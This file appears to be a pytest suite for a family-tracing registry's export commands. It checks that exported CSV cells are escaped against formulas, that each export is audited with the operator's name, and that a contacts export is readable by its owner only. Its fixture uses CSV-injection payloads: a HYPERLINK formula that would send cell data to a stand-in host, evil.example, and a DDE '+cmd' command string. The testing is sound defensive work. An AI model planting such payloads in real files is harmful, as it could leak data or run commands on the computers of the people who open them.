"""`kinlink export` and `kinlink exchange pfif-export`: formulas from the public form are escaped, every
export is audited with the operator's name, and a file with contact details is readable by its owner only."""

from __future__ import annotations

import csv
import getpass
import io
import os
import stat
from pathlib import Path

import pytest

from kinlink.cli import main
from kinlink.registry import actions
from kinlink.registry.models import AuditEntry, Organisation
from kinlink.registry.services.family_intake import FamilyRequest

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Click for news")'


@pytest.fixture
def hostile_request() -> None:
    org = Organisation.objects.create(name="Search group", slug="search")
    actions.submit_tracing_request(
        FamilyRequest(
            surname=FORMULA,
            given_name="@SUM(1+1)",
            sex="M",
            unit="+cmd|' /C calc'!A0",
            relationship="mother",
            contact="+7 900 000 00 01",
            enquirer_name="=1+1",
            consent_organisations=[org],
        )
    )


def _rows(path: Path) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(path.read_text(encoding="utf-8"))))


def test_exported_csv_cells_never_start_a_formula(hostile_request: None, tmp_path: Path) -> None:
    for table in ("names", "persons", "tracing_requests"):
        out = tmp_path / f"{table}.csv"
        args = ["export", "--format", "csv", "--table", table, "--out", str(out), "--operator", "Olena"]
        assert main([*args, "--include-contacts"] if table == "tracing_requests" else args) == 0
        for row in _rows(out):
            for column, value in row.items():
                assert (
                    not value.startswith(("=", "+", "-", "@", "\t", "\r"))
                    or value.lstrip("+-").replace(".", "").isdigit()
                ), (table, column, value)
    names = _rows(tmp_path / "names.csv")
    assert {r["surname"] for r in names} == {"'" + FORMULA}
    requests = _rows(tmp_path / "tracing_requests.csv")
    assert requests[0]["enquirer_name"] == "'=1+1" and requests[0]["contact"] == "'+7 900 000 00 01"


def test_every_export_is_audited_with_the_operator(hostile_request: None, tmp_path: Path) -> None:
    before = AuditEntry.objects.count()
    for n in range(3):
        assert main(["export", "--format", "json", "--out", str(tmp_path / f"full{n}.json")]) == 0
    entries = AuditEntry.objects.order_by("pk")[before:]
    assert [e.action for e in entries] == ["export_registry"] * 3
    assert {e.actor_label for e in entries} == {f"cli:{getpass.getuser()}"}
    assert (
        entries[0].detail["include_contacts"] is False and "tracing_requests" in entries[0].detail["tables"]
    )


def test_a_contacts_export_is_private_to_its_owner_and_names_the_operator(
    hostile_request: None, tmp_path: Path
) -> None:
    out = tmp_path / "contacts.json"
    old = os.umask(0o022)  # a umask that would make the file world-readable
    try:
        assert (
            main(
                ["export", "--format", "json", "--include-contacts", "--out", str(out), "--operator", "Olena"]
            )
            == 0
        )
    finally:
        os.umask(old)
    assert stat.S_IMODE(out.stat().st_mode) == 0o600
    assert "+7 900 000 00 01" in out.read_text(encoding="utf-8")
    entry = AuditEntry.objects.filter(action="export_contacts").get()
    assert entry.actor_label == "cli:Olena" and entry.detail["to"] == str(out)
    assert not list(tmp_path.glob("*.part"))


def test_a_pfif_export_is_audited(hostile_request: None, tmp_path: Path) -> None:
    out = tmp_path / "people.xml"
    assert (
        main(["exchange", "pfif-export", "--out", str(out), "--recipient", "search", "--operator", "Olena"])
        == 0
    )
    entry = AuditEntry.objects.filter(action="export_pfif").get()
    assert entry.actor_label == "cli:Olena" and entry.object_type == "organisation"
    assert entry.detail["bytes"] == out.stat().st_size
